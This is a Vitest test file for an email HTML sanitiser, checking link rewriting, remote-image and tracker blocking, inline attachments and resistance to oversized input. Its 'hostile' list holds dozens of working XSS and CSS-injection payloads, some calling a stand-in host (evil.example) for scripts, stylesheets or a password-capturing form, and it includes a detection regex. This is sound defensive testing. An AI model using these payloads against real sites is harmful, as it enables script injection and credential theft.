import { expect, test } from "vitest";

import { MailImages } from "./mail-images.ts";
import { sanitiseMail } from "./sanitise-mail.ts";

const png = Buffer.from("not really a picture");
const attachments = [
  { fileName: "a.png", contentType: "image/png", contentId: "logo@x", bytes: png },
  {
    fileName: "a.svg",
    contentType: "image/svg+xml",
    contentId: "svg@x",
    bytes: Buffer.from("<svg onload=alert(1)>"),
  },
  { fileName: "big.png", contentType: "image/png", contentId: "big@x", bytes: Buffer.alloc(5 * 1024 ** 2) },
];

function clean(html: string, remote = false) {
  const images = new MailImages({ attachments, remote });
  return { html: sanitiseMail(html, images), blocked: images.blocked };
}

/** What may lead to a script, a request or a page of somebody's: in tags alone, since text may speak of anything. */
const dangerous =
  /<[^>]*(?:\son\w+\s*=|javascript:|vbscript:|data:text|url\s*\(|expression|srcset|srcdoc|formaction|xlink|<)[^>]*>|<\/?(?:script|style|iframe|object|embed|form|input|button|textarea|select|svg|math|base|meta|link|template|video|audio|source|picture|frameset|frame|title|noscript)\b/i;

// prettier-ignore
const hostile = [
  "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>", "<img src='x' ONERROR = 'alert(1)'>", "<img/src=x/onerror=alert(1)>", '<img src="x" onerror="alert(1)"',
  '<body onload="alert(1)" background="https://evil.example/x">hi</body>', "<div onclick=alert(1) onmouseover='alert(1)'>x</div>",
  '<a href="javascript:alert(1)">x</a>', '<a href=" java\tscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>', '<a href="\u0001javascript:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', '<img src="cid:svg@x">', '<img src="javascript:alert(1)">',
  '<div style="background:url(https://evil.example/x)">x</div>', "<div style='background-image:url(\"https://evil.example/x\")'>x</div>",
  '<div style="background:\\75rl(https://evil.example/x)">x</div>', '<div style="width:expression(alert(1))">x</div>',
  '<div style="background:u/**/rl(https://evil.example)">x</div>', '<p style="color:red;behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:999">over</div>', '<div style="color: var(--x, url(https://evil.example))">x</div>',
  "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y)}</style>", "<style><!--</style><script>alert(1)</script>-->",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">', '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<link rel=dns-prefetch href="//evil.example">', '<form action="https://evil.example"><input name=p type=password><button formaction="javascript:alert(1)">go</button></form>',
  "<svg><script>alert(1)</script></svg>", "<svg onload=alert(1)>", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "<svg><animate onbegin=alert(1) attributeName=x>",
  '<svg><image href="https://evil.example/x"/></svg>', "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "<iframe src='https://evil.example'></iframe>", '<iframe srcdoc="<script>alert(1)</script>">', "<object data='x.swf'></object><embed src=x>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea><img src=x onerror=alert(1)></textarea>", "<xmp><img src=x onerror=alert(1)></xmp>",
  "<title><img src=x onerror=alert(1)></title>", "<template><img src=x onerror=alert(1)></template>", '<p title="--><img src=x onerror=alert(1)>">x', "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>", '<img srcset="https://evil.example/x 1x">', "<picture><source srcset='https://evil.example/x'></picture>", "<video poster=https://evil.example/x><source src=https://evil.example/y></video>",
  '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>', "<details open ontoggle=alert(1)>x", "<marquee onstart=alert(1)>x</marquee>",
  '<div style="x:\u0000expression(1)">', "<a href='https://ok.example' ping='https://evil.example' target=_top>x</a>", '<area href="javascript:alert(1)">', "<plaintext><script>alert(1)</script>", "<img src=\"https://evil.example/?`onerror=alert(1)\" alt='`onerror=alert(1)'>",
];

test.each(hostile)("%s is made harmless", (html) => {
  for (const remote of [false, true]) {
    const { html: safe } = clean(`before ${html} after`, remote);
    expect(safe).not.toMatch(dangerous);
    expect(safe).toContain("before");
    // What is clean stays as it is: a second reader sees the same tree.
    expect(clean(safe, remote).html.length).toBeLessThanOrEqual(safe.length);
  }
  expect(clean(html).html).not.toMatch(/<img[^>]*evil\.example|style="[^"]*evil\.example/);
});

test("links open elsewhere and tell nobody where they were; others lose their address", () => {
  expect(clean('<a href="https://x.example/?a=1&amp;b=2" target="_top" onclick="x()">x</a>').html).toBe(
    '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
  );
  expect(clean('<a href="mailto:ada@x.example">x</a>').html).toContain('href="mailto:ada@x.example"');
  for (const href of [
    "/api/v1/contacts",
    "contacts",
    "#top",
    "//x.example",
    "ftp://x.example",
    "file:///etc/passwd",
    "blob:x",
    "",
  ]) {
    expect(clean(`<a href="${href}">x</a>`).html, href).toBe("<a>x</a>");
  }
});

test("pictures elsewhere wait until they are asked for, and come by https; trackers never", () => {
  const html =
    '<img src="http://x.example/a.png" alt="A" width="300"><img src="//x.example/b.png"><img src="https://x.example/t.gif" width="1" height="1">';
  const held = clean(html);
  expect(held.blocked).toBe(2);
  expect(held.html).not.toContain("x.example");
  expect(held.html).toContain(">A</span>");
  const asked = clean(html, true);
  expect(asked.blocked).toBe(0);
  expect(asked.html.match(/src="[^"]*"/g)).toEqual([
    'src="https://x.example/a.png"',
    'src="https://x.example/b.png"',
  ]);
});

test("what stands in for a picture is its words, no larger than it would be and never so high as to hide the text", () => {
  const held = (attributes: string) => clean(`<img src="https://x.example/a.png" ${attributes}>`).html;
  expect(held('alt="Spring sale" width="640" height="900"')).toBe(
    '<span class="unfetched" style="max-width:600px;max-height:64px">Spring sale</span>',
  );
  expect(held('alt="Logo" style="width:120px;height:40px;border:9px solid red"')).toBe(
    '<span class="unfetched" style="max-width:120px;max-height:40px">Logo</span>',
  );
  expect(held('alt="Logo" width="100%"')).toContain('style="max-width:600px;max-height:64px">Logo<');
  for (const wordless of ['alt="" width="600" height="400"', 'width="600" height="400"']) {
    expect(held(wordless)).toBe("");
  }
  expect(held('alt="&lt;script&gt;" width="99"')).toContain(">&lt;script&gt;<");
});

test("what nobody is to see is not shown and not asked for, whichever way it is hidden", () => {
  for (const hidden of [
    'width="1" height="1"',
    'style="width:1px;height:1px"',
    'style="color:red; max-height : 0 !important"',
    'style="display:none"',
    'style="visibility:hidden"',
    'style="opacity:0"',
  ]) {
    for (const remote of [false, true]) {
      const html = `<img src="https://x.example/t.gif" alt="beacon" ${hidden}>`;
      expect(clean(html, remote), hidden).toEqual({ html: "", blocked: 0 });
    }
  }
  expect(clean('<img src="https://x.example/a.png" style="opacity:0.9;width:10px">', true).html).toContain(
    "src=",
  );
});

test("pictures of the mail itself are shown, those that may run or are too large are not", () => {
  expect(clean('<img src="cid:logo@x">').html).toBe(
    `<img src="data:image/png;base64,${png.toString("base64")}" />`,
  );
  expect(clean('<img src="CID:logo%40x">').html).toContain("data:image/png");
  for (const source of ["cid:svg@x", "cid:big@x", "cid:none", "cid:%"]) {
    expect(clean(`a<img src="${source}">b`).html, source).toBe("ab");
  }
});

test("what makes a mail look like itself stays", () => {
  const html =
    '<table width="600" bgcolor="#ffffff"><tr><td style="color:rgb(1, 2, 3);font-family:\'Arial\', sans-serif;padding:4px 8px" align="center"><b>Hi</b></td></tr></table>';
  const { html: safe } = clean(html);
  expect(safe).toContain('<table width="600" bgcolor="#ffffff">');
  expect(safe).toMatch(
    /style="color:rgb\(1, 2, 3\);font-family:(?:'|&#39;)Arial(?:'|&#39;), sans-serif;padding:4px 8px"/,
  );
  expect(safe).toContain("<b>Hi</b>");
});

test("deep nesting, endless attributes and a million tags are read in reasonable time", () => {
  const startedAt = performance.now();
  for (const html of [
    "<div>".repeat(100_000) + "x",
    "<b ".repeat(100_000),
    `<p style="${"color:red;".repeat(50_000)}">x</p>`,
    `<p style="font-family:${"a,".repeat(100_000)}">x</p>`,
    `<p style="color:${"rgb(".repeat(50_000)}">x</p>`,
    "<table><tr><td>".repeat(30_000),
    `<a href="${"x".repeat(500_000)}">x</a>`,
    "<!--".repeat(100_000),
    "&".repeat(500_000),
    `<img src="data:image/png;base64,${"A".repeat(900_000)}">`,
  ]) {
    expect(clean(html.slice(0, 1_000_000)).html).not.toMatch(/<script/);
  }
  expect(performance.now() - startedAt).toBeLessThan(10_000);
});
